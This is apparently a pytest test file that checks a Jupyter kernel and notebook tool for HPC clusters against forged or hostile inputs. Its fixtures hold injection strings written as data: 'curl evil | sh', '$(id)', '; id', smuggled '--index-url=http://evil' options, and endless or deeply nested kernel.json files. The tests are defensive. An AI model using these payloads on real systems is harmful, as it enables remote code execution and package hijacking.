# SPDX-License-Identifier: BSD-3-Clause
"""An image, a directory or another user wants a notebook: its token, words of its own in programs of the host, packages
from elsewhere, or a listing that never ends.
"""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from kedge.errors import NotebookProblem
from kedge.system.lean_programs import Finished
from kedge.tools.jupyter import image_python, install
from kedge.tools.jupyter.image_python import ImagePython, ask_python
from kedge.tools.jupyter.kernel_in_job import read_connection
from kedge.tools.jupyter.kernel_specs import Kernel, describe_kernel, list_kernels
from kedge.tools.jupyter.lab import close_log, plan_lab
from tests.builders.rows import each_row

ANSWER = {
    "program": "/usr/bin/python3",
    "version": "3.11",
    "machine": "x86_64",
    "libc": "glibc 2.36",
    "has_pip": True,
    "ipykernel": "",
    "problem": "",
    "jupyterlab": "4.2.0",
    "installed": {"numpy": "1.26.0", "--index-url": "http://evil", "x": "1 --pre"},
}
PYTHON = ImagePython(**{**ANSWER, "installed": tuple(ANSWER["installed"].items())})  # type: ignore[arg-type, attr-defined]
FORGED = [
    *(("version", text) for text in ("3.11; curl evil | sh #", "--index-url=http://evil", "3.11\n", "", 3.11)),
    *(("machine", text) for text in ("--find-links=/tmp/x", "x86_64 --pre", "$(id)", "", None)),
    *(("program", text) for text in ("--on-node", "python3", "", "/bin/py\nthon", ["/bin/sh"], "/" * 5000)),
    *(("libc", text) for text in ("glibc; id", "-x", 2)),
    *(("ipykernel", text) for text in ("6.0 $(id)", {"a": 1})),
]


@each_row(("name", "forged"), FORGED)
def test_answers_of_an_image_have_their_shape(monkeypatch: pytest.MonkeyPatch, name: str, forged: object) -> None:
    """They go to uv and pip of the host, into kernel.json, and into lines that the user is told to type."""
    said = image_python._MARK + json.dumps({**ANSWER, name: forged})
    monkeypatch.setattr(image_python, "run_step", lambda *_, **__: Finished(("python3",), 0, said.encode(), b""))
    with pytest.raises(NotebookProblem, match="gives no answer"):
        ask_python("a.sif")


def test_an_honest_answer_is_taken(monkeypatch: pytest.MonkeyPatch) -> None:
    said = image_python._MARK + json.dumps(ANSWER)
    monkeypatch.setattr(image_python, "run_step", lambda *_, **__: Finished(("python3",), 0, said.encode(), b""))
    assert ask_python("a.sif").version == "3.11"
    assert install.list_constraints(ask_python("a.sif")) == [("numpy", "1.26.0")]


def test_settings_of_the_current_directory_do_not_choose_where_packages_come_from(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """uv reads uv.toml there and above: that of a project, or of /tmp, would name another index, whose packages run."""
    uv = tmp_path / "bin/uv"
    uv.parent.mkdir()
    uv.write_text(f'#!/bin/sh\npwd >>{tmp_path}/seen\necho "$@" >>{tmp_path}/seen\nexit 1\n')
    uv.chmod(0o755)
    monkeypatch.setenv("PATH", f"{uv.parent}:/usr/bin:/bin")
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(install, "run_step", lambda *_, **__: Finished((), 1, b"", b"no"))
    with pytest.raises(NotebookProblem):
        install.bring_ipykernel("a.sif", PYTHON, tmp_path / "target")
    seen = (tmp_path / "seen").read_text().splitlines()
    assert seen[::2] == ["/", "/"]  # with constraints and without, in a directory that root alone can write to
    assert all(f"--target {tmp_path}/target " in words for words in seen[1::2])


def test_the_token_of_a_server_is_nobody_else_s_to_read(tmp_path: Path) -> None:
    """The output of a job is a file that the scheduler made, mostly for all to read."""
    log = os.open(tmp_path / "slurm-7.out", os.O_WRONLY | os.O_CREAT, 0o644)
    os.fchmod(log, 0o644)
    assert close_log(log)
    assert (tmp_path / "slurm-7.out").stat().st_mode & 0o777 == 0o600
    assert not close_log(log)
    os.close(log)
    reading, writing = os.pipe()
    assert not close_log(writing)
    os.close(reading)
    os.close(writing)


def test_the_tunnel_is_one_command(tmp_path: Path) -> None:
    plan = plan_lab("a.sif", PYTHON, port=8888, login="head; curl evil | sh", environ={"USER": "me"})
    assert plan.tunnel.endswith("@head; curl evil | sh'")
    assert plan.token not in plan.tunnel + " ".join(plan.argv)


def test_a_listing_of_kernels_passes_over_what_is_none(tmp_path: Path) -> None:
    kernel = Kernel("good", "Good", str(tmp_path / "good"), "a.sif", "3.11", "6.0", "", False)
    documents: dict[str, object] = {
        "good": describe_kernel(kernel, ["kedge"], {}),
        "types": {"metadata": {"kedge": {**kernel.as_dict(), "display_name": ["x"], "image": 7}}},
        "other": {"argv": ["x"]},
    }
    for name, document in documents.items():
        (tmp_path / name).mkdir()
        (tmp_path / name / "kernel.json").write_text(json.dumps(document))
    for name in ("pipe", "deep", "endless"):
        (tmp_path / name).mkdir()
    os.mkfifo(tmp_path / "pipe/kernel.json")
    (tmp_path / "deep/kernel.json").write_text("[" * 200_000)
    (tmp_path / "endless/kernel.json").symlink_to("/dev/zero")
    assert [each.name for each in list_kernels(tmp_path)] == ["good"]


@each_row("changed", [{"shell_port": "7; id"}, {"ip": 7}, {"transport": "ipc"}, {"hb_port": None}])
def test_connection_files_that_are_none(tmp_path: Path, changed: dict[str, object]) -> None:
    ports = {f"{name}_port": 1 for name in ("shell", "iopub", "stdin", "control", "hb")}
    path = tmp_path / "kernel.json"
    path.write_text(json.dumps({**ports, "ip": "127.0.0.1", "transport": "tcp", **changed}))
    with pytest.raises(NotebookProblem, match="not a connection file"):
        read_connection(str(path))
